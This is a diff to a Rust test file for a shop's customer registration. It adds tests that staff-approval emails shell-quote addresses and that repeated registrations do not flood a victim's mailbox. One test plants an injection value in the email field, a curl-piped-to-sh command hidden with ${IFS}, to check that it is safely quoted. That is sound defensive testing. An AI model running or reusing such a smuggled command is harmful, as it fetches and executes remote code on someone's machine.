@@ -152,7 +152,7 @@ async fn auth_04_staff_let_customers_in_where_the_shop_wants_it_so() {
         let mail = server.next();
         let text = told(&mail);
         assert_eq!(&*mail.recipients, &["info@shop.example".to_owned()][..], "staff hear of it");
-        for words in ["Kopa, UAB", "Ona Kazlauskienė", "vitrina customers approve ona@kopa.example"] {
+        for words in ["Kopa, UAB", "Ona Kazlauskienė", "vitrina customers approve -- 'ona@kopa.example'"] {
             assert!(text.contains(words), "{words}: {text}");
         }
         let early = log_in(&shop, "ona@kopa.example", PASSWORD, &[]);
@@ -244,6 +244,39 @@ async fn auth_03_what_is_wrong_is_named_and_nothing_is_stored() {
 
         let cross = shop.post("/api/register/lt", &company("ona@kopa.example").to_string(), &[("sec-fetch-site", "cross-site")]);
         assert_eq!((cross.status, message(&cross)), (403, "CrossSite".to_owned()));
+    })
+    .await;
+}
+
+#[tokio::test]
+async fn auth_11_staff_are_never_shown_an_address_as_a_command_to_run() {
+    on_sqlite(async |url| {
+        let server = MailServer::start();
+        let catalogue = Catalogue::small().feature("customerRegistrationApprovedByAdmin", true).feature("customerEmailConfirmation", false);
+        let shop = registering(url, &server, &catalogue);
+        let hostile = "a|curl${IFS}x.example/'b'|sh@evil.example";
+        assert_eq!(outcome(&register(&shop, &consumer(hostile))), "NotApprovedByAdmin");
+        let text = told(&server.next());
+        let quoted = r"vitrina customers approve -- 'a|curl${IFS}x.example/'\''b'\''|sh@evil.example'";
+        assert!(text.contains(quoted), "{text}");
+    })
+    .await;
+}
+
+#[tokio::test]
+async fn auth_11_who_registers_with_anothers_address_again_and_again_does_not_fill_their_mailbox() {
+    on_sqlite(async |url| {
+        let server = MailServer::start();
+        let shop = registering(url, &server, &Catalogue::small());
+        for _ in 0..8 {
+            outcome(&register(&shop, &consumer("ona@example.com")));
+        }
+        let text = told(&server.next());
+        assert!(text.contains("email-approval-token"), "the first one is theirs: {text}");
+        wait_until(|| waiting_mails(&shop) == 0);
+        let rest = server.rest();
+        assert_eq!(rest.len(), 5, "and of the others five are told");
+        assert!(rest.iter().all(|mail| told(mail).contains("Jūs jau turite paskyrą")));
     })
     .await;
 }
